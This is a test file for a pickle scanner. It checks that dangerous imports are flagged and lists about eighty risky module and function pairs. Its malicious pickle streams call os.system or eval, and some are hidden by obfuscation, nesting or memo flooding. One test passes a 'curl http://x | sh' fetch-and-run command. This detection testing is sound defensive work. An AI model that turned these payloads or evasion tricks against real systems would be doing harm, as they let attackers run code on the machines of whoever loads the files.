"""Every way to import and call something dangerous is found, whatever surrounds it."""

from __future__ import annotations

import pickle
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.probes.artifacts.assemble import (
    EVIL,
    IMPORTS,
    by_escapes,
    by_global,
    by_inst,
    by_new,
    by_obj,
    by_stack_global,
    call,
    constant,
    proto,
    rules,
    scan_bytes,
    text,
)

DANGEROUS = [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execvp"),
    ("subprocess", "Popen"), ("subprocess", "check_output"), ("commands", "getoutput"),
    ("builtins", "eval"), ("builtins", "exec"), ("builtins", "compile"), ("builtins", "__import__"),
    ("builtins", "getattr"), ("builtins", "open"), ("__builtin__", "eval"),
    ("__builtin__", "apply"),
    ("__builtin__", "execfile"), ("runpy", "run_module"), ("runpy", "_run_code"),
    ("webbrowser", "open"), ("socket", "create_connection"), ("importlib", "import_module"),
    ("importlib.machinery", "SourceFileLoader"), ("pty", "spawn"), ("torch", "load"),
    ("torch.hub", "load"), ("torch.jit", "load"), ("numpy", "load"), ("joblib", "load"),
    ("operator", "attrgetter"), ("operator", "methodcaller"), ("_operator", "attrgetter"),
    ("typing", "_eval_type"), ("dataclasses", "_create_fn"), ("pipes", "Template"),
    ("logging.config", "_install_handlers"),
    ("uu", "decode"), ("wave", "open"), ("argparse", "FileType"), ("inspect", "currentframe"),
    ("warnings", "_getcategory"), ("gettext", "c2py"),
    ("functools", "partial"), ("functools", "reduce"), ("pip", "main"), ("pip._internal", "main"),
    ("bdb", "Bdb.run"), ("pdb", "run"), ("timeit", "timeit"), ("doctest", "debug_script"),
    ("cProfile", "run"), ("profile", "Profile.run"), ("trace", "Trace.run"), ("ctypes", "CDLL"),
    ("pickle", "loads"), ("_pickle", "loads"), ("marshal", "loads"), ("dill", "loads"),
    ("shutil", "rmtree"), ("sys", "modules"), ("code", "InteractiveInterpreter.runcode"),
    ("numpy.testing._private.utils", "runstring"), ("httplib", "HTTPSConnection"),
    ("requests.api", "get"), ("aiohttp.client", "ClientSession"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("torch._dynamo.guards", "GuardBuilder.get"), ("torch.serialization", "os.system"),
    ("idlelib.run", "Executive.runcode"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("pydoc", "pipepager"), ("ensurepip", "_run_pip"), ("torch.utils.collect_env", "run"),
    ("collections", "OrderedDict.__init__.__globals__"), ("uuid", "_get_command_stdout"),
]  # fmt: skip


def critical(findings: list) -> list:
    return [one for one in findings if one.severity == "critical"]


@pytest.mark.parametrize(("module", "name"), DANGEROUS)
@pytest.mark.parametrize("way", sorted(IMPORTS))
def test_every_import_is_found(tmp_path: Path, module: str, name: str, way: str) -> None:
    data = proto(4) + call(IMPORTS[way](module, name)) + b"."
    found = critical(scan_bytes(tmp_path, data))
    assert [one.rule for one in found] == ["pickle-dangerous-import"]
    assert f"{module}.{name}" in found[0].message
    assert "'id'" in found[0].proof
    assert "CWE-502" in found[0].references
    assert found[0].location.startswith("sample.bin@")


@pytest.mark.parametrize("module", ["os", "subprocess", "__builtin__"])
def test_every_call_opcode_is_found(tmp_path: Path, module: str) -> None:
    name = "eval" if module == "__builtin__" else "system"
    for body in (
        by_inst(module, name),
        by_obj(by_global(module, name)),
        by_new(by_global(module, name)),
        by_stack_global(module, name) + text("id") + b"\x85}\x92",
    ):
        for header in (b"", proto(0), proto(2), proto(5)):
            found = critical(scan_bytes(tmp_path, header + body + b"."))
            assert found, (header, body)
            assert "calls it" in found[0].message


def test_an_import_without_a_call_counts(tmp_path: Path) -> None:
    found = scan_bytes(tmp_path, proto(2) + b"]" + by_global("os", "system") + b"a.")
    assert critical(found)
    assert "calls it" not in found[0].message


def test_offsets_point_at_the_opcode(tmp_path: Path) -> None:
    padding = b"(" + b"K\x01" * 10 + b"1"
    data = proto(2) + padding + by_global("os", "system") + b"."
    (found,) = scan_bytes(tmp_path, data)
    assert found.location == f"sample.bin@{data.index(b'cos')}"


@pytest.mark.parametrize(
    "damage", [b"", b"\xff", b"h\x63", b"X\xff\xff\xff\xff", b"I12", b"\x80\x63"]
)
def test_what_runs_before_the_stream_breaks_counts(tmp_path: Path, damage: bytes) -> None:
    found = scan_bytes(tmp_path, proto(4) + call(by_global("os", "system")) + damage)
    assert {"pickle-dangerous-import", "pickle-broken"} <= rules(found)


@pytest.mark.parametrize(
    "before", [b"N", b"0", b"(0", b"R", b"e", b"\x93", b"s", b"a" * 3, b"\x86", b"u"]
)
def test_a_stream_that_takes_from_an_empty_stack_is_still_followed(
    tmp_path: Path, before: bytes
) -> None:
    assert critical(
        scan_bytes(tmp_path, proto(4) + before + call(by_global("os", "system")) + b".")
    )


def test_stacked_streams(tmp_path: Path) -> None:
    benign = pickle.dumps([1, 2])
    assert critical(scan_bytes(tmp_path, benign * 3 + EVIL))
    assert critical(scan_bytes(tmp_path, benign + b"cos\nsystem\n(S'id'\ntR."))


def test_nested_pickles(tmp_path: Path) -> None:
    inner = proto(2) + call(by_global("nt", "system")) + b"."
    direct = proto(3) + by_global("some.module", "restore") + constant(inner) + b"\x85R."
    found = scan_bytes(tmp_path, direct)
    assert any("!constant@" in one.location and "nt.system" in one.message for one in found)
    for protocol in range(6):
        deep = pickle.dumps({"a": [pickle.dumps(inner, protocol)]}, protocol)
        found = critical(scan_bytes(tmp_path, deep))
        assert found, protocol
        assert "nt.system" in found[0].message


def test_trailing_data_is_told(tmp_path: Path) -> None:
    assert rules(scan_bytes(tmp_path, pickle.dumps(1) + b"\xfe\xfdhidden")) == {
        "pickle-trailing-data"
    }
    (found,) = scan_bytes(tmp_path, pickle.dumps(1) + b"\x7fELF\x02\x01")
    assert (found.rule, found.severity) == ("pickle-trailing-data", "high")
    assert not scan_bytes(tmp_path, pickle.dumps(1) + b"\n\0\0\0")


def test_an_unknown_import_is_suspicious_not_clean(tmp_path: Path) -> None:
    (found,) = scan_bytes(tmp_path, proto(2) + call(by_global("new_package.tools", "go")) + b".")
    assert (found.rule, found.severity) == ("pickle-unknown-import", "medium")
    shell = proto(2) + call(by_global("new_package.tools", "go"), "curl http://x | sh") + b"."
    assert scan_bytes(tmp_path, shell)[0].severity == "high"


def test_names_that_are_no_constants(tmp_path: Path) -> None:
    joined = by_global("builtins", "str") + text("os") + b"\x85R"
    data = proto(4) + joined + text("system") + b"\x93" + text("id") + b"\x85R."
    assert "pickle-computed-name" in rules(scan_bytes(tmp_path, data))


def test_getattr_is_resolved(tmp_path: Path) -> None:
    def got(module: str, name: str, attribute: str) -> bytes:
        return (
            by_global("builtins", "getattr") + by_global(module, name) + text(attribute) + b"\x86R"
        )

    enumerated = proto(4) + got("torch.optim.swa_utils", "Averaging", "MEAN") + b"."
    assert not scan_bytes(tmp_path, enumerated)
    for module, name, attribute in (
        ("collections", "OrderedDict", "__init__"),
        ("torch.serialization", "shutil", "rmtree"),
        ("numpy", "ndarray", "system"),
    ):
        data = proto(4) + got(module, name, attribute) + text("id") + b"\x85R."
        assert critical(scan_bytes(tmp_path, data)), (module, name, attribute)
    # One harmless use does not excuse another.
    kept = (
        proto(4) + by_global("builtins", "getattr") + b"\x940" + b"h\x00"
        + by_global("torch.optim.swa_utils", "Averaging") + text("MEAN") + b"\x86R0"
        + b"]h\x00a."
    )  # fmt: skip
    assert critical(scan_bytes(tmp_path, kept))


def test_extension_codes_patches_and_computed_calls(tmp_path: Path) -> None:
    cases = {
        b"\x82\x05N\x85R.": "pickle-extension-code",
        by_global("collections", "OrderedDict")
        + b"N}"
        + text("x")
        + b"Ns\x86b.": "pickle-patches-import",
        by_global("collections", "OrderedDict") + b")RN\x85R.": "pickle-computed-call",
        b"N\x85N\x85R.": "pickle-computed-call",
    }
    for body, rule in cases.items():
        assert rule in rules(scan_bytes(tmp_path, proto(4) + body)), body


def test_bytecode(tmp_path: Path) -> None:
    import cloudpickle

    found = scan_bytes(tmp_path, cloudpickle.dumps(lambda x: x + 1))
    assert {"pickle-bytecode"} == rules(found) - {"pickle-unknown-import"}
    assert any(one.severity == "high" for one in found)


def test_flooding_the_memo_hides_nothing(tmp_path: Path) -> None:
    flood = b"".join(text(f"word_{i:06d}" + "x" * 200) + b"\x940" for i in range(200_000))
    data = proto(4) + flood + text("os") + b"\x940" + text("system") + b"\x940"
    data += b"j" + (200_000).to_bytes(4, "little") + b"j" + (200_001).to_bytes(4, "little")
    assert critical(scan_bytes(tmp_path, data + b"\x93" + text("id") + b"\x85R."))
    secret = data.replace(b"\x06system", b"\x06gadget").replace(b"\x02os", b"\x02qs")
    found = scan_bytes(tmp_path, secret + b"\x93" + text("id") + b"\x85R.")
    assert "pickle-computed-name" in rules(found)


junk = st.lists(
    st.sampled_from(
        [b"N0", b"K\x010", b"(1", b"]0", b"}0", b"(K\x01K\x02t0", b"\x8c\x03abc\x940", b"N\x940",
         b"X\x02\x00\x00\x00hiq\x500", b"I12\n0", b"F1.5\n0", b"Vabc\n0", b"C\x03abc0", b"N20",
         b"\x95\x05\x00\x00\x00\x00\x00\x00\x00", b"G" + bytes(8) + b"0", b"(l0", b"(d0",
         b"]N\x85a0", b"}K\x01K\x02s0", b"((((1111", b"\x8a\x01\x050",
         b"ccollections\nOrderedDict\n0"]
    ),
    max_size=30,
).map(b"".join)  # fmt: skip


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    around=st.tuples(junk, junk),
    module_name=st.sampled_from(DANGEROUS),
    way=st.sampled_from([by_global, by_stack_global, by_escapes]),
    header=st.sampled_from([b"", proto(2), proto(4)]),
)
def test_junk_around_it_hides_nothing(
    tmp_path: Path, around: tuple[bytes, bytes], module_name: tuple[str, str], way, header: bytes
) -> None:
    before, between = around
    data = header + before + way(*module_name) + between + text("id") + b"\x85R."
    assert critical(scan_bytes(tmp_path, data))


def test_names_can_do_nothing_to_a_terminal(tmp_path: Path) -> None:
    # Found by fuzzing: the name of an import stood in the message as it was.
    found = scan_bytes(tmp_path, proto(2) + call(b"c\x1b[2Jos\nsystem\n") + b".")
    assert found
    assert all((one.message + one.location + one.proof).isprintable() for one in found)
    assert any("\\x1b[2Jos" in one.message for one in found)
